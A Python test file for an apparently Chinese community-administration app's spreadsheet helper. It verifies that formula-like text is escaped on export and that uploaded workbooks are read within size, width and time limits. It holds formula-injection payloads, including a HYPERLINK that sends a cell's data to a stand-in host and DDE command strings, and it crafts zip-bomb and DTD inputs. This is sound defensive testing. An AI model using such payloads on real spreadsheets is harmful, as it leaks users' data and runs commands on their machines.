"""The one xlsx writer and reader (community_admin/core/xlsx.py): text is never written as a formula, and an
upload is read within bounds whatever it declares. The exporters' own files: tests/security/test_formula_injection.py."""

import ast
import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from openpyxl import load_workbook
from openpyxl.styles import Font

from community_admin.core import uploads, xlsx
from tests.workbooks import crafted, row, sheet_xml, text_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&J2,"点此")',
    "=cmd|'/c calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["张三", "3号楼2单元501", "#N/A", "=", ""]  # "#N/A" would be an error value, "=" alone stays text


def read_back(workbook) -> list:
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    return list(
        load_workbook(out).worksheets[-1].iter_rows()
    )  # a normal workbook's default sheet comes first


def assert_text(cells, texts) -> None:
    for c, text in zip(cells[: len(texts)], texts, strict=True):
        assert c.data_type == "s" and c.value == text, (c.coordinate, c.value, c.data_type)
        assert c.quotePrefix == (text[:1] in xlsx.FORMULA_TRIGGERS)


@pytest.mark.parametrize("write_only", [True, False])
def test_text_that_starts_like_a_formula_is_written_as_the_text_typed(write_only):
    workbook = xlsx.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("名单")
    sheet.append(HOSTILE)
    sheet.append([xlsx.cell(sheet, text, font=Font(bold=True)) for text in HOSTILE])  # styled cells too
    sheet.append(PLAIN[:-1])
    rows = read_back(workbook)
    assert_text(rows[0], HOSTILE)
    assert_text(rows[1], HOSTILE)
    assert rows[1][0].font.bold
    assert_text(rows[2], PLAIN[:-1])


@pytest.mark.parametrize("write_only", [True, False])
def test_numbers_dates_and_booleans_stay_what_they_are(write_only):
    workbook = xlsx.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("数")
    sheet.append([-5, -2.5, Decimal("-800.50"), date(2025, 3, 1), True, None, 0])
    cells = read_back(workbook)[0]
    values = [c.value for c in cells]
    assert values[:3] == [-5, -2.5, -800.5] and values[3].date() == date(2025, 3, 1)
    assert values[4] is True and values[5] is None and values[6] == 0
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"] and not any(c.quotePrefix for c in cells)


def test_a_normal_workbook_escapes_cells_however_they_were_set():
    workbook = xlsx.new_workbook(write_only=False)
    sheet = workbook.active
    sheet["A1"] = "=1+1"
    sheet.cell(1, 2, value="=cmd|'/c calc'!A0")
    sheet.append(["@SUM(A1)"])
    rows = read_back(workbook)
    assert_text([rows[0][0], rows[0][1], rows[1][0]], ["=1+1", "=cmd|'/c calc'!A0", "@SUM(A1)"])


def test_characters_xml_cannot_hold_are_dropped_instead_of_failing_the_export():
    workbook = xlsx.new_workbook()
    sheet = workbook.create_sheet("x")
    sheet.append(["张\x07三", "=a\x00b"])
    assert_text(read_back(workbook)[0], ["张三", "=ab"])


# Every module that writes a workbook goes through the helper -------------------------------------------

ROOT = Path(settings.BASE_DIR)
HELPER = "community_admin/core/xlsx.py"
# Benchmarks measure openpyxl itself (bench/ledgers.py's "floor") and build synthetic import files.
OUTSIDE_THE_APP = ("bench/", "tests/", ".venv/", "var/", "node_modules/")
# What a module may take from openpyxl besides the helper: formatting, nothing that makes or reads cells.
FORMATTING = ("openpyxl.styles", "openpyxl.utils")


def _sources():
    for path in sorted(ROOT.rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if not rel.startswith(OUTSIDE_THE_APP):
            yield rel, ast.parse(path.read_text(encoding="utf-8"), filename=rel)


def _openpyxl_imports(tree) -> list[tuple[str, list[str]]]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [(a.name, []) for a in node.names if a.name.split(".")[0] == "openpyxl"]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == "openpyxl":
            found.append((node.module, [a.name for a in node.names]))
    return found


def _uses_helper(tree) -> bool:
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "community_admin.core"
            and any(a.name == "xlsx" for a in node.names)
        ):
            return True
        if isinstance(node, ast.ImportFrom | ast.Import):
            names = [node.module] if isinstance(node, ast.ImportFrom) else [a.name for a in node.names]
            if "community_admin.core.xlsx" in names:
                return True
    return False


def bypasses(rel: str, tree) -> list[str]:
    """What in one module writes or reads a workbook other than through the helper."""
    found = []
    imports = _openpyxl_imports(tree)
    for module, names in imports:
        if not module.startswith(FORMATTING):
            found.append(f"{rel}: {'from ' + module + ' import ' + ', '.join(names) if names else module}")
    if imports and not _uses_helper(tree):
        found.append(f"{rel}: formats cells without {HELPER}")
    for node in ast.walk(tree):  # openpyxl.Workbook(...) by attribute, or a Workbook(...) of any origin
        func = getattr(node, "func", None)
        name = getattr(func, "id", None) or getattr(func, "attr", None)
        if isinstance(node, ast.Call) and name in ("Workbook", "WriteOnlyCell", "load_workbook"):
            found.append(f"{rel}:{node.lineno}: {name}(...)")
    return found


def test_no_module_writes_or_reads_a_workbook_but_through_the_helper():
    """A new exporter that builds its own `Workbook(...)` writes formulas again, an import that calls
    `load_workbook` reads unbounded: this walks every module of the project and fails on either."""
    found, writers = [], []
    for rel, tree in _sources():
        if rel == HELPER:
            continue
        found += bypasses(rel, tree)
        if _uses_helper(tree):
            writers.append(rel)
    assert found == [], "\n".join(found)
    # The walk sees every exporter and both imports (else it proves nothing).
    for module in (
        "community_admin/residents/exporters.py",
        "community_admin/residents/importers.py",
        "community_admin/ledgers/exporters.py",
        "community_admin/ledgers/importers.py",
        "community_admin/staff/exporters.py",
        "community_admin/funding/exporters.py",
        "community_admin/dashboards/exporters.py",
        "community_admin/dashboards/reports/documents.py",
    ):
        assert module in writers


@pytest.mark.parametrize(
    "source",
    [
        "from openpyxl import Workbook\nWorkbook(write_only=True)\n",
        "import openpyxl\nfrom community_admin.core import xlsx\nopenpyxl.Workbook()\n",
        "from openpyxl.cell import WriteOnlyCell\nfrom community_admin.core import xlsx\n",
        "from openpyxl.styles import Font\n",  # styles cells, so it writes: without the helper
        "from openpyxl import load_workbook\nload_workbook('x.xlsx')\n",
    ],
)
def test_the_walk_catches_a_bypass(source):
    assert bypasses("new/exporters.py", ast.parse(source))


# Reading within bounds -------------------------------------------------------------------------------


def open_rows(upload, **kwargs):
    with xlsx.open_import(upload) as sheet:
        rows = list(sheet.rows(**kwargs))
    return sheet, rows


def test_rows_are_read_to_the_width_asked_whatever_the_sheet_declares():
    upload = crafted(
        sheet_xml(row(1, ["a", "b"]) + f'<row r="3">{text_cell("XFD3", "far")}</row>', dimension="A1:XFD3")
    )
    sheet, rows = open_rows(upload, start=1, limit=10, width=2)
    assert rows == [(1, ("a", "b")), (2, (None, None)), (3, (None, None))]  # the gap is a row read
    assert (sheet.rows_read, sheet.cells_read) == (3, 6)


def test_a_row_beyond_the_limit_is_refused_empty_rows_and_gaps_included():
    upload = crafted(sheet_xml(row(1, ["h"]) + '<row r="2"/><row r="3"/>' + row(1_048_576, ["x"])))
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(upload, start=2, limit=100, width=1)
    assert refused.value.message == xlsx.ERR_TOO_MANY_ROWS.format(limit=100)
    assert refused.value.row == 102


def test_the_read_stops_after_the_time_allowed(monkeypatch, settings):
    settings.IMPORT_MAX_SECONDS = 5
    clock = iter(range(0, 10_000))  # one second per look at the clock
    monkeypatch.setattr(xlsx, "monotonic", lambda: next(clock))
    upload = crafted(sheet_xml("".join(row(n, [f"r{n}"]) for n in range(1, 50))))
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(upload, start=1, limit=1000, width=1)
    assert refused.value.message == xlsx.ERR_TOO_SLOW.format(seconds="5")


def test_a_row_wider_than_excel_allows_is_refused_before_openpyxl_parses_it():
    # A million empty cells in one row pack into a few KB and cost openpyxl 14 s and 570 MB to parse.
    cells = '<c r="A1"/>' * (xlsx.EXCEL_MAX_COLUMNS + 1)
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(crafted(sheet_xml(f'<row r="1">{cells}</row>')), start=1, limit=10, width=1)
    assert refused.value.message == xlsx.ERR_TOO_WIDE


def test_a_dtd_is_refused():
    doctype = "<!DOCTYPE worksheet [<!ENTITY c \"<c r='A1'/>\">]>"
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(crafted(sheet_xml(row(1, ["a"]), prolog=doctype)), start=1, limit=10, width=1)
    assert refused.value.message.startswith("结构异常（含有 DTD 声明）")


def test_an_archive_unpacking_beyond_the_limit_is_refused_from_its_directory(settings):
    settings.IMPORT_MAX_UNPACKED_BYTES = 1024 * 1024
    bomb = crafted(sheet_xml(row(1, ["a"]) + "<!-- padding -->" + " " * (2 * 1024 * 1024)))
    assert len(bomb.getvalue()) < 20_000  # two megabytes of spaces pack into a few kilobytes
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(bomb, start=1, limit=10, width=1)
    assert refused.value.message == xlsx.ERR_UNPACKED.format(mb=1)
    # The forms' upload check says so on the field, before the import starts.
    bomb.seek(0)
    with pytest.raises(ValidationError) as invalid:
        uploads.check_workbook(bomb)
    assert invalid.value.messages == ["文件：" + xlsx.ERR_UNPACKED.format(mb=1)]


def test_a_part_read_whole_is_bounded_on_its_own():
    base = crafted(sheet_xml(row(1, ["a"])))
    out = io.BytesIO()
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/styles.xml":
                data = data.replace(
                    b"</styleSheet>", b" " * (xlsx.WHOLE_PART_MAX_BYTES + 1) + b"</styleSheet>"
                )
            dst.writestr(info.filename, data)
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        xlsx.check_archive(out)
    assert refused.value.message.startswith("解压后超过")


def test_a_file_that_is_not_a_workbook_is_unreadable():
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(io.BytesIO(b"PK\x03\x04 not really"), start=1, limit=1, width=1)
    assert refused.value.message == xlsx.ERR_UNREADABLE


def test_sheet_titles_are_ones_excel_takes():
    workbook = xlsx.new_workbook()
    sheet = workbook.create_sheet("A1 甲/乙社区居委会[东区]:*?\\很长很长很长很长很长很长很长")
    assert sheet.title == "A1 甲_乙社区居委会_东区_____很长很长很长很长很长很长"
    assert len(sheet.title) == xlsx.SHEET_TITLE_MAX
    assert xlsx.sheet_title("'引号'") == "引号" and xlsx.sheet_title("") is None


def test_a_corrupt_part_is_unreadable_not_an_error_page():
    out = io.BytesIO()
    with zipfile.ZipFile(crafted(sheet_xml(row(1, ["a"])))) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():  # stored, so a byte of the sheet can be changed in place
            dst.writestr(info.filename, src.read(info.filename))
    broken = io.BytesIO(out.getvalue().replace(b"<sheetData>", b"<sheetDatX>", 1))  # its CRC no longer holds
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(broken, start=1, limit=1, width=1)
    assert refused.value.message == xlsx.ERR_UNREADABLE


# ------------------------------------------------------------------------------ print-ready tables


def _print_ready_sheet(tmp_path, *, rows, columns, write_only=True, **kwargs):
    from datetime import date  # noqa: F401 -- rows use it

    from openpyxl import load_workbook

    from community_admin.core import xlsx

    workbook = xlsx.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("名单")
    written = xlsx.write_table(sheet, columns=columns, rows=rows, **kwargs)
    path = tmp_path / "t.xlsx"
    workbook.save(path)
    return written, load_workbook(path)["名单"]


@pytest.mark.parametrize("write_only", [True, False])
def test_a_table_is_print_ready(tmp_path, write_only):
    from datetime import date
    from decimal import Decimal

    from community_admin.core import xlsx

    rows = [
        [i, f"欧阳娜娜{i}", "11010519491231002X", Decimal("1234.5"), date(2026, 3, 1)] for i in range(300)
    ]
    columns = ["序号", "姓名", xlsx.Column("公民身份号码", "id"), "救助金额（元）", "发放日期"]
    written, sheet = _print_ready_sheet(
        tmp_path,
        rows=rows,
        columns=columns,
        write_only=write_only,
        heading="临时救助台账",
        lead=[["社区", "甲一社区"]],
        totals=[["合计", "", "", Decimal("370350"), None]],
    )
    assert written == 300
    # the title across the columns, the header repeated on every printed page and frozen on screen
    assert sheet["A1"].value == "临时救助台账" and sheet["A1"].font.b
    assert "A1:E1" in {str(r) for r in sheet.merged_cells.ranges}
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.freeze_panes == "A4"
    # one page wide, as many down as it takes, A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.page_setup.paperSize == xlsx.PAPER_A4
    assert "&P" in sheet.oddFooter.center.text
    # widths from the content: the ID number (18) and a Chinese name (4 wide characters + digits) whole
    width = {c: sheet.column_dimensions[c].width for c in "ABCDE"}
    assert width["C"] >= 18 + 2 and width["B"] >= 2 * 4 + 3 + 1
    assert width["A"] < width["B"] < width["C"]
    # bordered cells, money, dates and text formats
    first = sheet[4]
    assert all(c.border.left.style == "thin" for c in first)
    assert sheet["A3"].font.b and sheet["A3"].border.bottom.style == "thin"
    assert (first[2].value, first[2].number_format) == ("11010519491231002X", "@")
    assert (first[3].value, first[3].number_format) == (1234.5, "#,##0.00")
    assert first[4].is_date and first[4].number_format == "yyyy-mm-dd"
    assert sheet[304][0].value == "合计" and sheet[304][0].font.b


def test_a_wide_table_prints_landscape_and_a_narrow_one_portrait(tmp_path):
    _, narrow = _print_ready_sheet(tmp_path, rows=[["张三", 1]], columns=["姓名", "年龄"])
    assert narrow.page_setup.orientation == "portrait"
    _, wide = _print_ready_sheet(
        tmp_path, rows=[["很长的名称" * 3] * 8], columns=[f"栏目{i}" for i in range(8)]
    )
    assert wide.page_setup.orientation == "landscape"


def test_widths_count_wide_characters_twice_and_cap_long_text_which_wraps(tmp_path):
    from community_admin.core import xlsx

    assert xlsx.display_width("公民身份号码") == 12
    assert xlsx.display_width("A1-2026") == 7
    _, sheet = _print_ready_sheet(tmp_path, rows=[["备注" * 100]], columns=["备注", "x"])
    assert sheet.column_dimensions["A"].width == xlsx.WIDTH_MAX
    assert sheet["A2"].alignment.wrap_text
    assert sheet.row_dimensions[2].height > 15


def test_widths_come_from_a_sample_so_a_long_value_later_does_not_widen(tmp_path):
    rows = [["短"]] * 3 + [["很长很长很长很长很长的值"]]
    _, sheet = _print_ready_sheet(tmp_path, rows=rows, columns=["名", "x"], sample=3)
    assert sheet.column_dimensions["A"].width < 10
    assert sheet["A5"].value == "很长很长很长很长很长的值"


def test_a_table_escapes_text_that_looks_like_a_formula(tmp_path):
    _, sheet = _print_ready_sheet(tmp_path, rows=[["=cmd|'/c calc'!A0", "-2+3"]], columns=["a", "b"])
    cell = sheet["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=cmd|'/c calc'!A0", "s", True)
    assert cell.border.left.style == "thin"


def test_the_print_ready_writer_keeps_memory_flat_in_write_only_mode():
    """The sheet holds no rows: only the sample is buffered, written rows are gone."""
    import tracemalloc
    from io import BytesIO

    from community_admin.core import xlsx

    def peak(n: int) -> int:
        workbook = xlsx.new_workbook()
        sheet = workbook.create_sheet("x")
        tracemalloc.start()
        rows = ([i, f"居民{i}", "110105********002X", i * 1.5] for i in range(n))
        xlsx.write_table(sheet, columns=["序号", "姓名", "证件", "金额"], rows=rows, sample=100)
        workbook.save(BytesIO())
        _, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return top

    assert peak(20_000) < 2 * peak(2_000) + 1_000_000
